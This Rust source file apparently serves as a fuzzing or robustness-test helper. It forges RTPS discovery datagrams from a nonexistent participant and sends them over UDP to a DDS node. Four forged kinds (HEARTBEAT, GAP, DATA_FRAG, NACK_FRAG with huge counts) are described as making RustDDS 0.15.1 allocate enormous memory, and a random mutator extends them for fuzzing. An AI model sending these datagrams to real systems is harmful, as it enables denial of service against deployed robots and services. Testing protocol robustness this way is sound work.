//! RTPS datagrams of a participant that does not exist, as an attacker would write them (RTPS 2.5, chapter 9.4).

use std::net::{Ipv4Addr, UdpSocket};

type EntityId = [u8; 4];

const SPDP_WRITER: EntityId = [0, 1, 0, 0xc2];
const SPDP_READER: EntityId = [0, 1, 0, 0xc7];
/// The built-in writer and reader of publications, which every participant has.
const SEDP_WRITER: EntityId = [0, 0, 3, 0xc2];
const SEDP_READER: EntityId = [0, 0, 3, 0xc7];

/// A kind of datagram that makes RustDDS 0.15.1 allocate what the datagram claims.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Forged {
    /// 2^40 samples are announced: each missing one becomes an entry of a vector.
    Heartbeat,
    /// 2^40 samples are withdrawn: each becomes an entry of a map.
    Gap,
    /// The first fragment of a sample of 4 GiB.
    DataFrag,
    /// Fragment 2^32 - 1 is requested again: a bit set up to there.
    NackFrag,
}

pub const ALL_FORGED: [Forged; 4] = [Forged::Heartbeat, Forged::Gap, Forged::DataFrag, Forged::NackFrag];

/// A participant that does not exist, on a separate socket.
pub struct Forger {
    socket: UdpSocket,
    target: (Ipv4Addr, u16),
    prefix: [u8; 12],
    count: u32,
}

impl Forger {
    /// Aims at the first participant of a domain at `address`; `number` distinguishes forgers.
    pub fn new(address: Ipv4Addr, domain: u16, number: u32) -> Self {
        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).expect("a socket");
        let mut prefix = [0x01, 0x0f, 0xba, 0xad, 0, 0, 0, 0, 0, 0, 0, 1];
        prefix[4..8].copy_from_slice(&number.to_be_bytes());
        Self { socket, target: (address, 7410 + 250 * domain), prefix, count: 0 }
    }

    pub fn send(&self, datagram: &[u8]) {
        // A refusal (no socket is open while the node's side restarts) refers to an earlier datagram.
        let _ = self.socket.send_to(datagram, self.target);
    }

    /// Announces the participant, as a peer does before anything else.
    pub fn announce(&mut self) {
        let datagram = self.announcement();
        self.send(&datagram);
    }

    /// Sends a forged datagram.
    pub fn forge(&mut self, kind: Forged) {
        let datagram = self.forged(kind);
        self.send(&datagram);
    }

    /// One whole datagram of each kind a peer sends, forged or not: what mutations start from.
    pub fn seeds(&mut self) -> Vec<Vec<u8>> {
        let mut seeds = vec![self.announcement()];
        seeds.extend(ALL_FORGED.map(|kind| self.forged(kind)));
        let count = self.next_count();
        seeds.push(self.message(&[acknack(1, &[0xffff_ffff], count)]));
        seeds.push(self.message(&[heartbeat(1, 1, count)]));
        seeds.push(self.message(&[heartbeat_frag(1, 9, count)]));
        seeds.push(self.message(&[info_dst(), info_ts(), data(SEDP_READER, SEDP_WRITER, 1, &self.publication())]));
        seeds.push(self.message(&[data_frag(1, 1, 64, 256), heartbeat_frag(1, 4, count), gap(1, 2)]));
        seeds
    }

    fn next_count(&mut self) -> u32 {
        self.count += 1;
        self.count
    }

    fn forged(&mut self, kind: Forged) -> Vec<u8> {
        let count = self.next_count();
        self.message(&[match kind {
            Forged::Heartbeat => heartbeat(1, 1 << 40, count),
            Forged::Gap => gap(1 << 20, 1 << 40),
            Forged::DataFrag => data_frag(u64::from(count), 1, 0xfff0, u32::MAX),
            Forged::NackFrag => nack_frag(u32::MAX, count),
        }])
    }

    fn message(&self, submessages: &[Vec<u8>]) -> Vec<u8> {
        let mut bytes = b"RTPS\x02\x03\x01\x0f".to_vec();
        bytes.extend(self.prefix);
        bytes.extend(submessages.concat());
        bytes
    }

    fn announcement(&mut self) -> Vec<u8> {
        let port = u32::from(self.socket.local_addr().expect("bound").port());
        let mut locator = [&1u32.to_le_bytes()[..], &port.to_le_bytes(), &[0; 12], &[127, 0, 0, 1]].concat();
        locator.resize(24, 0);
        let guid = [&self.prefix[..], &[0, 0, 1, 0xc1]].concat();
        let parameters = [
            parameter(0x0015, &[2, 3, 0, 0]),
            parameter(0x0016, &[0x01, 0x0f, 0, 0]),
            parameter(0x0050, &guid),
            parameter(0x0032, &locator),
            parameter(0x0031, &locator),
            parameter(0x0002, &[&20u32.to_le_bytes()[..], &[0; 4]].concat()),
            parameter(0x0058, &0x0c3fu32.to_le_bytes()),
            parameter(0x0001, &[]),
        ];
        let count = u64::from(self.next_count());
        self.message(&[info_ts(), data(SPDP_READER, SPDP_WRITER, count, &parameters.concat())])
    }

    /// The announcement of a publisher of operating points.
    fn publication(&self) -> Vec<u8> {
        let text = |text: &str| {
            let mut bytes = (text.len() as u32 + 1).to_le_bytes().to_vec();
            bytes.extend(text.bytes());
            bytes.push(0);
            bytes.resize(bytes.len().next_multiple_of(4), 0);
            bytes
        };
        let guid = [&self.prefix[..], &[0, 0, 0x12, 3]].concat();
        [
            parameter(0x005a, &guid),
            parameter(0x0005, &text("rt/rig/operating_point")),
            parameter(0x0007, &text("squealcast_msgs::msg::dds_::OperatingPoint_")),
            parameter(0x001a, &[&2u32.to_le_bytes()[..], &[0; 8]].concat()),
            parameter(0x0001, &[]),
        ]
        .concat()
    }
}

/// Changes a datagram at random: bytes, words, its end, or the order of its parts.
pub fn mutate(datagram: &mut Vec<u8>, random: &mut impl FnMut() -> u64) {
    for _ in 0..1 + random() % 4 {
        let at = (random() % datagram.len() as u64) as usize;
        match random() % 6 {
            0 => datagram[at] ^= 1 << (random() % 8),
            1 => datagram[at] = random() as u8,
            2 => {
                let word = [0, 1, 0x7fff_ffff, 0xffff_ffff, random() as u32][(random() % 5) as usize];
                let end = datagram.len().min(at + 4);
                datagram[at..end].copy_from_slice(&u32::to_le_bytes(word)[..end - at]);
            }
            3 => datagram.truncate(at.max(4)),
            4 => datagram.extend_from_within(at..),
            _ => datagram[20.min(at)..].rotate_left(1),
        }
        datagram.truncate(1400);
    }
}

/// Numbers that look random (SplitMix64).
pub fn random(mut seed: u64) -> impl FnMut() -> u64 {
    move || {
        seed = seed.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (seed ^ (seed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }
}

fn submessage(id: u8, flags: u8, body: &[&[u8]]) -> Vec<u8> {
    let body = body.concat();
    [&[id, flags | 1][..], &(body.len() as u16).to_le_bytes(), &body].concat()
}

fn parameter(id: u16, value: &[u8]) -> Vec<u8> {
    [&id.to_le_bytes()[..], &(value.len() as u16).to_le_bytes(), value].concat()
}

/// A sequence number: the high word first.
fn number(number: u64) -> [u8; 8] {
    let mut bytes = [0; 8];
    bytes[..4].copy_from_slice(&((number >> 32) as u32).to_le_bytes());
    bytes[4..].copy_from_slice(&(number as u32).to_le_bytes());
    bytes
}

fn info_ts() -> Vec<u8> {
    submessage(0x09, 0, &[&1_700_000_000u32.to_le_bytes(), &[0; 4]])
}

/// To any receiver.
fn info_dst() -> Vec<u8> {
    submessage(0x0e, 0, &[&[0; 12]])
}

fn data(reader: EntityId, writer: EntityId, sequence: u64, parameters: &[u8]) -> Vec<u8> {
    let head = [0, 0, 16, 0];
    submessage(0x15, 4, &[&head, &reader, &writer, &number(sequence), &[0, 3, 0, 0], parameters])
}

fn heartbeat(first: u64, last: u64, count: u32) -> Vec<u8> {
    submessage(0x07, 0, &[&SEDP_READER, &SEDP_WRITER, &number(first), &number(last), &count.to_le_bytes()])
}

fn gap(start: u64, base: u64) -> Vec<u8> {
    submessage(0x08, 0, &[&SEDP_READER, &SEDP_WRITER, &number(start), &number(base), &[0; 4]])
}

fn acknack(base: u64, bitmap: &[u32], count: u32) -> Vec<u8> {
    let bits: Vec<u8> = bitmap.iter().flat_map(|word| word.to_le_bytes()).collect();
    let bit_count = 32 * bitmap.len() as u32;
    let set = [&number(base)[..], &bit_count.to_le_bytes(), &bits].concat();
    submessage(0x06, 0, &[&SEDP_READER, &SEDP_WRITER, &set, &count.to_le_bytes()])
}

fn data_frag(sequence: u64, fragment: u32, fragment_size: u16, sample_size: u32) -> Vec<u8> {
    let (head, payload) = ([0, 0, 28, 0], [0, 3, 0, 0, 1, 0, 0, 0]);
    let numbers = [&fragment.to_le_bytes()[..], &1u16.to_le_bytes(), &fragment_size.to_le_bytes()].concat();
    let size = sample_size.to_le_bytes();
    submessage(0x16, 0, &[&head, &SEDP_READER, &SEDP_WRITER, &number(sequence), &numbers, &size, &payload])
}

fn heartbeat_frag(sequence: u64, last_fragment: u32, count: u32) -> Vec<u8> {
    let (last, count) = (last_fragment.to_le_bytes(), count.to_le_bytes());
    submessage(0x13, 0, &[&SEDP_READER, &SEDP_WRITER, &number(sequence), &last, &count])
}

fn nack_frag(fragment: u32, count: u32) -> Vec<u8> {
    let set = [&fragment.to_le_bytes()[..], &1u32.to_le_bytes(), &0x8000_0000u32.to_le_bytes()].concat();
    submessage(0x12, 0, &[&SEDP_READER, &SEDP_WRITER, &number(1), &set, &count.to_le_bytes()])
}
